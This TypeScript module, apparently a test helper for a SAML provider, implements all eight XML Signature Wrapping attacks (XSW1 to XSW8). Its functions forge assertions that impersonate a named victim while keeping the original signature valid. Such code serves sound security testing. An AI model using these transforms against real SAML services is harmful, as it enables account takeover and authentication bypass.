import { newId } from './saml-provider.js';

/** An answer that is signed, taken apart. */
interface Parts {
  /** The whole `samlp:Response` element. */
  readonly response: string;
  readonly assertion: string;
  /** The signature of the assertion. */
  readonly signature: string;
  /** The signature of the response; empty when there is none. */
  readonly outerSignature: string;
}

const ASSERTION = /<saml:Assertion[^]*<\/saml:Assertion>/;
const SIGNATURE = /<ds:Signature [^]*?<\/ds:Signature>/;

function apart(xml: string): Parts {
  const assertion = ASSERTION.exec(xml)?.[0] ?? '';
  const around = xml.replace(assertion, '');
  return {
    response: xml,
    assertion,
    signature: SIGNATURE.exec(assertion)?.[0] ?? '',
    outerSignature: SIGNATURE.exec(around)?.[0] ?? '',
  };
}

/** The assertion as the attacker wants it: another person, another ID, no signature. */
function forged({ assertion, signature }: Parts, victim: string): string {
  return renamed(assertion.replace(signature, ''), victim);
}

function renamed(xml: string, victim: string): string {
  return xml
    .replace(/(<saml:NameID[^>]*>)[^<]*/, `$1${victim}`)
    .replace(/(<saml:Assertion[^>]* ID=")[^"]+/, `$1${newId()}`);
}

/**
 * The eight ways of wrapping a signed assertion that the literature names (Somorovsky et al., "On Breaking SAML", 2012): the
 * signature stays good for what it covers, and a careless reader takes what it does not.
 *
 * @param xml an answer whose assertion is signed; the first two need a signed response too, and else leave it as it is
 */
export const WRAPPINGS: Readonly<Record<string, (xml: string, victim: string) => string>> = {
  'XSW1: the signed response inside the signature of a forged one': (xml, victim) => {
    const { outerSignature } = apart(xml);
    if (outerSignature === '') return xml;
    const evil = renamed(xml.replace(/(<samlp:Response[^>]* ID=")[^"]+/, `$1${newId()}`), victim);
    const inner = xml.replace(outerSignature, '');
    return evil.replace(
      outerSignature,
      outerSignature.replace('</ds:Signature>', `<ds:Object>${inner}</ds:Object></ds:Signature>`),
    );
  },
  'XSW2: the signed response before the signature of a forged one': (xml, victim) => {
    const { outerSignature } = apart(xml);
    if (outerSignature === '') return xml;
    const evil = renamed(xml.replace(/(<samlp:Response[^>]* ID=")[^"]+/, `$1${newId()}`), victim);
    return evil.replace(outerSignature, xml.replace(outerSignature, '') + outerSignature);
  },
  'XSW3: a forged assertion before the signed one': (xml, victim) => {
    const parts = apart(xml);
    return xml.replace(parts.assertion, forged(parts, victim) + parts.assertion);
  },
  'XSW4: the signed assertion inside a forged one': (xml, victim) => {
    const parts = apart(xml);
    const evil = forged(parts, victim).replace('</saml:Assertion>', `${parts.assertion}</saml:Assertion>`);
    return xml.replace(parts.assertion, evil);
  },
  'XSW5: the forged assertion carries the signature, the signed one follows': (xml, victim) => {
    const { assertion, signature } = apart(xml);
    return xml.replace(assertion, renamed(assertion, victim) + assertion.replace(signature, ''));
  },
  'XSW6: as XSW5, the signed one inside the signature': (xml, victim) => {
    const { assertion, signature } = apart(xml);
    const inner = assertion.replace(signature, '');
    const wrapping = signature.replace('</ds:Signature>', `${inner}</ds:Signature>`);
    return xml.replace(assertion, renamed(assertion, victim).replace(signature, wrapping));
  },
  'XSW7: a forged assertion in Extensions': (xml, victim) => {
    const parts = apart(xml);
    return xml.replace(
      parts.assertion,
      `<samlp:Extensions>${forged(parts, victim)}</samlp:Extensions>${parts.assertion}`,
    );
  },
  'XSW8: the signed assertion in an Object of the signature of a forged one': (xml, victim) => {
    const { assertion, signature } = apart(xml);
    const inner = `<ds:Object>${assertion.replace(signature, '')}</ds:Object>`;
    const wrapping = signature.replace('</ds:Signature>', `${inner}</ds:Signature>`);
    return xml.replace(assertion, renamed(assertion, victim).replace(signature, wrapping));
  },
};
